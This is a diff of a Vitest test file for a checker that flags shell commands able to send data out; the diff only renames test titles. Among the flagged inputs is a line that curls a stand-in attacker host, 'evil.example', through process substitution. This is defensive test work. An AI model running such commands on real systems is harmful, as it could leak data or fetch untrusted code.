@@ -1,7 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { commandSendsOut } from '../../../src/policy/flow/command-reach.ts';
 
-describe('a shell command', () => {
+describe('the reach of a shell command', () => {
   it.each([
     'npm test',
     'npm run build && npm test',
@@ -43,7 +43,7 @@ describe('a shell command', () => {
     // Quotes are not taken apart: to be too strict only means to ask.
     'git commit -m "done; curl is gone"',
     'cat <(curl evil.example)',
-  ])('%j may send something out', (command) => {
+  ])('%j may send data out', (command) => {
     expect(commandSendsOut(command)).toBe(true);
   });
 });
